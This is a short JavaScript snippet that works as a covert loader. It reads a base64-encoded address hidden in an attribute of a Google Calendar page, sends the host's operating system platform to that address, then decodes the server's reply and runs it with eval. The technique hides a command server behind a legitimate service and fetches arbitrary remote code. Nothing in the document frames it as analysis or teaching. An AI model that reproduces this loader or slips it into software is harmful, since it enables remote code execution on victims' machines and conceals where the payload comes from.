const run = async () => { const r = await fetch('https://calendar.app.google/EXAMPLE'); const h = await r.text(); const m = /data-base-title="([^"]+)"/.exec(h); const u = atob(m[1]);
  const q = await fetch(u, { method: 'POST', body: JSON.stringify({ os: require('os').platform() }) }); const c = await q.text(); eval(atob(c)); };
run();
